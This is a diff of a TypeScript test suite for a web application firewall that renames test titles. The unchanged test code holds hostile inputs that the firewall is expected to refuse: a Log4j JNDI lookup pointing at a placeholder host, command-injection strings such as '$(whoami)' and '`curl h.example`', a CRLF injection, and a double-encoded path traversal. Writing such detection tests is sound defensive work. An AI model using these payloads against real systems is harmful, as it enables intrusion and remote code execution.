@@ -67,7 +67,7 @@ describe("P3 WAF Java and PHP detectors on attacks written from the grammar", ()
   });
 
   it.each(attacks.map((c) => [c.class, c.value] as const))(
-    "P3: %s attack %j is refused in a query, a JSON field, a header and a cookie",
+    "P3 (refuses): %s attack %j is refused in a query, a JSON field, a header and a cookie",
     (_class, value) => {
       const passed = Object.entries(ATTACK_WAYS).flatMap(([way, build]) => (blocked(build(value)) ? [] : [way]));
       expect(passed).toEqual([]);
@@ -87,7 +87,7 @@ describe("P3 WAF Java and PHP detectors on attacks written from the grammar", ()
     expect(refused).toEqual([]);
   });
 
-  it("P3: a Log4j lookup in a JSON key is refused too", () => {
+  it("P3 (refuses): a Log4j lookup in a JSON key is refused too", () => {
     const request = asJson("x");
     expect(blocked({ ...request, body: JSON.stringify({ "${${::-j}ndi:ldap://h.example/k}": 1 }) })).toBe(true);
   });
@@ -111,7 +111,7 @@ describe("P3 WAF on credentials", () => {
     "$(whoami)",
     "`curl h.example`",
     "line\r\nbreak",
-  ])("P3: the credential %j is refused", (password) => {
+  ])("P3 (refuses): the credential %j is refused", (password) => {
     expect(blocked(signUp(password))).toBe(true);
   });
 
@@ -226,7 +226,7 @@ describe("P3 WAF request rules: RFC 9110/9112 grammar", () => {
       },
       113,
     ],
-  ] as const)("P3: %s is refused", (_name, request, id) => {
+  ] as const)("P3 (refuses): %s is refused", (_name, request, id) => {
     expect(ids(request)).toContain(id);
   });
 
@@ -234,7 +234,7 @@ describe("P3 WAF request rules: RFC 9110/9112 grammar", () => {
     ["an empty User-Agent", get("/v1/risks", [["user-agent", ""]]), 128],
     ["an empty Accept", get("/v1/risks", [["accept", " "]]), 128],
     ["a double-encoded target", get("/v1/risks?q=%252e%252e%252f"), 129],
-  ] as const)("P3: %s is refused at paranoia 2", (_name, request, id) => {
+  ] as const)("P3 (refuses): %s is refused at paranoia 2", (_name, request, id) => {
     expect(ids(request, 2)).toContain(id);
     expect(ids(request, 1)).not.toContain(id);
   });
